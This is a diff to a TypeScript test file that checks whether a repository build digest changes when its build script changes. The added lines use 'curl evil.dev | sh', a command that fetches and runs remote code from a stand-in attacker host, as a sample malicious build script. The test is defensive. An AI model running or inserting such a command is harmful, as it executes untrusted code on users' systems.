@@ -176,6 +176,10 @@ test('digests all that the build of a repository can read, and what it installs 
     expect(read({ ...files, [path]: 'let a' }).scripts, path).not.toEqual({ 'prepare: tsc': digest })
   const manifest = { scripts: { prepare: 'tsc' }, devDependencies: { evil: '1' } }
   expect(read({ ...files, 'package.json': manifest }).scripts).not.toEqual({ 'prepare: tsc': digest })
+  const runs = (build: string) => read({ 'package.json': { scripts: { prepare: 'npm run build', build } } })
+  expect(runs('tsc').scripts).not.toEqual(runs('curl evil.dev | sh').scripts)
+  // A package of a registry is not built.
+  expect(runs('tsc').opaque).toEqual(runs('curl evil.dev | sh').opaque)
 })
 
 test.for([
